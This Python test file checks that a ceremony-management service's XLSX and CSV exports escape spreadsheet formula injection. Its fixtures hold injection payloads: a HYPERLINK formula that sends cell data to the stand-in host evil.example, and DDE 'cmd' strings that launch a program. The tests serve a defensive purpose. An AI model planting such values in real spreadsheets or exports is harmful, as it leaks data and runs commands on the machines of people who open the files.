"""No XLSX or CSV the service writes holds a cell a spreadsheet would run as a formula."""
import io
from datetime import datetime, timezone
from types import SimpleNamespace

from openpyxl import load_workbook

from ceremony.core.spreadsheet import FORMULA_STARTS, SafeCsvWriter, safe_cell
from ceremony.delegates.importing import table_from_json
from ceremony.delegates.operations import import_delegates

HOSTILE = ['=HYPERLINK("http://evil.example/?"&B2&C2,"Xem")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "=1+1"]


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield cell


def _assert_inert(data: bytes, expect_text: str):
    cells = list(_cells(data))
    formulas = [c.coordinate for c in cells if c.data_type == "f"
                or (isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS))]
    assert not formulas, f"formula cells: {formulas}"
    assert any(c.value == "'" + expect_text for c in cells), "the hostile text is kept, marked as text"


def _hostile_delegates(db, ceremony):
    rows = [{"ho_ten": name, "chuc_vu": "@Chánh văn phòng", "don_vi": "-UBND", "ma_diem_cau": "51",
             "thanh_phan": "lanh-dao", "dien_thoai": f"090500000{i}"} for i, name in enumerate(HOSTILE)]
    import_delegates(ceremony.id, table_from_json(rows))
    db.session.commit()


def test_safe_cell_marks_every_formula_start_and_keeps_other_values():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "x") == "'" + start + "x"
    assert safe_cell("Nguyễn Văn A") == "Nguyễn Văn A"
    assert safe_cell(-5) == -5 and safe_cell(None) is None and safe_cell("") == ""


def test_csv_writer_escapes_cells():
    out = io.StringIO()
    SafeCsvWriter(out).writerow(["=1+1", "ok", 3, "\tx"])
    assert out.getvalue().splitlines()[0] == "'=1+1,ok,3,'\tx"


def test_delegates_export_writes_no_formula(client, db, ceremony, login):
    _hostile_delegates(db, ceremony)
    login("organizer")
    response = client.get(f"/ceremonies/{ceremony.id}/delegates/export.xlsx")
    assert response.status_code == 200
    _assert_inert(response.data, HOSTILE[0])


def test_attendance_report_writes_no_formula(client, db, ceremony, login):
    _hostile_delegates(db, ceremony)
    login("organizer")
    response = client.get(f"/ceremonies/{ceremony.id}/attendance/report.xlsx")
    assert response.status_code == 200
    _assert_inert(response.data, HOSTILE[0])


def test_readiness_and_timing_reports_write_no_formula():
    from ceremony.program.xlsx import timing_report_xlsx
    from ceremony.readiness.xlsx import phase_report_xlsx

    when = datetime(2024, 9, 27, 1, 0, tzinfo=timezone.utc)
    ceremony = SimpleNamespace(title="=cmd|' /C calc'!A0")
    phase = SimpleNamespace(name="+Trước lễ")
    row = {"code": "51", "name": "@Tỉnh", "tier": "province", "district": "-", "status": "not_reported",
           "first_ready_at": when, "last_report_at": None, "reports": 1, "reported_by": "=a@b.vn",
           "bandwidth_mbps": 5.0, "headcount": 3, "problems": "=HYPERLINK(\"x\")", "flagged_at": None,
           "told": "-Sở"}
    _assert_inert(phase_report_xlsx(ceremony, phase, [row]), "=HYPERLINK(\"x\")")
    slot = SimpleNamespace(segment=SimpleNamespace(title="=2+2", planned_seconds=60), actual_seconds=-5,
                           actual_start=when, planned_start=when)
    data = timing_report_xlsx(ceremony, [slot])
    _assert_inert(data, "=2+2")
    assert any(c.value == -5 for c in _cells(data)), "numbers stay numbers"
